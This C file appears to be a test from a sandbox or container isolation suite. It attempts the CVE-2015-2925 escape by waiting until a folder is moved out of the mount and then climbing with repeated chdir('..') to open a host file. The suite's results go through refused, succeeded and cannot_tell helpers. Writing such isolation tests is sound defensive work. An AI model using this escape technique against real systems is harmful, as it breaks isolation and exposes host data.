/*
 * Waits in a folder that the host moves out of the mounted one, and climbs
 * from there (CVE-2015-2925; the classic way out of a chroot).
 */
#include "attempt.h"
#include <fcntl.h>
#include <sys/stat.h>

int main(int argc, char **argv)
{
	char path[4096];
	struct stat s;

	if (argc != 2 || chdir(argv[1]) || chdir("inside/deep"))
		refused("chdir");
	if (open("ready", O_WRONLY | O_CREAT, 0644) < 0)
		refused("open");
	snprintf(path, sizeof path, "%s/moved", argv[1]);
	for (int i = 0; stat(path, &s); i++) {
		if (i == 1000)
			cannot_tell("the host has not moved the folder");
		usleep(10000);
	}
	for (int up = 0; up < 4; up++) {
		if (open("secret", O_RDONLY) >= 0)
			succeeded("%d folders above is the host's", up);
		if (chdir(".."))
			refused("chdir");
	}
	errno = ENOENT;
	refused("open");
}
